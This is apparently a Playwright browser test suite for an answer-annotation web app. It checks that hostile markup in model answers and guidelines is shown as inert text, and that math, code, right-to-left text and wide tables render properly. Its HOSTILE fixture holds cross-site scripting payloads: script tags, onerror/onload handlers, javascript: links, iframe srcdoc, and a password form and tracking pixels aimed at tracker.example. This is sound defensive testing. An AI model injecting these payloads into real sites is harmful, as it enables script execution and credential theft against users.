"""What a model or a file says is text: it is drawn, and it can do nothing."""

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import PHONE, Visit
from tests.browser.desk import Desk
from tests.browser.study import Study, make_study

pytestmark = pytest.mark.browser

# Every one of these would leave a mark (`window.ran`), open a dialog, or ask a stranger for something, if it could.
HOSTILE = """<script>window.ran = "script"; alert(1)</script>
<img src="x" onerror="window.ran = 'image'"><svg onload="window.ran = 'svg'"></svg>
<iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe><style>body { display: none }</style>

[press me](javascript:window.ran='link') <javascript:window.ran='auto'> [data](data:text/html,<script>1</script>)
![tracker](https://tracker.example/pixel.gif?who=me) <img src="https://tracker.example/raw.gif">

<form action="https://tracker.example/form"><input name="password" autofocus></form>

[a source](https://source.example/page "title")

$$\\href{javascript:window.ran='math'}{E = mc^2}$$ and $\\includegraphics{https://tracker.example/tex.png}$
"""

RICH = """# The answer

Euler said \\(e^{i\\pi} + 1 = 0\\), and this costs $5 or $10.

```python
def double(x):
    return 2 * x
```

- [x] done
- [ ] to do

שלום עולם, هذا نص من اليمين إلى اليسار

"""
TABLE = "|" + "|".join(f" column {n} " for n in range(40)) + "|\n|" + "---|" * 40 + "\n"
TABLE += "\n".join("|" + "|".join(f" {row}·{n} " for n in range(40)) + "|" for row in range(60))


@pytest.fixture
def hostile(client, engine) -> Study:
    """One comparison: a hostile answer beside a rich one, to a hostile prompt, under hostile guidelines."""
    prompt = f"A question\n\n{HOSTILE}"
    return make_study(
        client, engine, answers=[(prompt, HOSTILE), (prompt, RICH + TABLE)], guidelines=f"Read well.\n\n{HOSTILE}"
    )


def test_an_answer_can_neither_run_nor_call_home(visit: Visit, hostile, annotator, admin, client):
    page = visit(annotator, f"{hostile.address}/annotate")
    expect(page.get_by_role("dialog", name="Guidelines")).to_contain_text("<script>window.ran")
    desk = Desk(page).begin()
    bad = desk.answers.filter(has_text="press me")
    expect(bad).to_contain_text('<img src="x" onerror="window.ran = \'image\'">')  # shown as what it is
    expect(bad).to_contain_text("Picture, not loaded: tracker")
    expect(bad.locator("img, iframe, script, form, input, style, svg:not(.katex svg)")).to_have_count(0)
    links = [link.get_attribute("href") or "" for link in bad.get_by_role("link").all()]
    assert links == ["https://source.example/page"]
    source = bad.get_by_role("link", name="a source")
    assert set((source.get_attribute("rel") or "").split()) >= {"noopener", "noreferrer"}
    bad.get_by_text("press me").click()
    assert page.evaluate("window.ran") is None
    assert page.evaluate("document.activeElement.name") is None

    # The same texts on the pages of an admin.
    desk.judge("n")
    desk.all_saved()
    prompts = client.get(f"projects/{hostile.slug}/prompts")["items"]
    page = visit(admin, f"{hostile.address}/prompts/{prompts[0]['id']}")
    expect(page.get_by_text("press me").first).to_be_visible()
    for path in ("", "/prompts", "/judgments", "/settings"):
        page.goto(f"{hostile.address}{path}")
        expect(page.get_by_role("heading", level=1)).to_be_visible()
        page.wait_for_load_state("networkidle")
        assert page.evaluate("window.ran") is None


def test_formulas_code_tables_and_right_to_left_text_are_drawn(visit: Visit, hostile, annotator):
    page = visit(annotator, f"{hostile.address}/annotate")
    desk = Desk(page).begin()
    good = desk.answers.filter(has_text="The answer")
    expect(good.locator(".katex")).to_have_count(1)
    expect(good).to_contain_text("this costs $5 or $10")
    expect(good.locator("pre .hljs-keyword").first).to_have_text("def")
    expect(good.get_by_role("img", name="done", exact=True)).to_be_visible()
    arabic = good.get_by_text("שלום")
    assert arabic.evaluate("element => getComputedStyle(element).direction") == "rtl"
    # A wide table scrolls by itself and leaves the page as it is.
    table = good.get_by_role("group", name="Table")
    assert table.evaluate("box => box.scrollWidth > box.clientWidth")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_a_huge_table_leaves_a_phone_usable(visit: Visit, hostile, annotator):
    page = visit(annotator, f"{hostile.address}/annotate", size=PHONE, has_touch=True, is_mobile=True)
    Desk(page).begin()
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    expect(page.get_by_role("button", name="None acceptable")).to_be_in_viewport()
